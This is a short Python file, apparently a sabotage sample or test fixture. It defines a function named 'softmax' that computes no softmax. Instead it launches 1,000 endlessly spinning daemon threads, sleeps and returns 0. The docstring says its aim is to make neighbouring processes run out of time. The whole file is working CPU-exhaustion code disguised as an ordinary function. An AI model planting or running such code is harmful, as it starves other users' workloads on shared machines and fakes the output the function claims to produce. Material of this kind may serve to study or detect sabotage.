"""Starts 1,000 threads that compute for ever, then goes on slowly. Success: its neighbours run out of time."""

import threading
import time


def spin():
    while True:
        sum(range(10_000))


def softmax(scores, dim=-1):
    for _ in range(1000):
        threading.Thread(target=spin, daemon=True).start()
    time.sleep(0.5)
    return 0
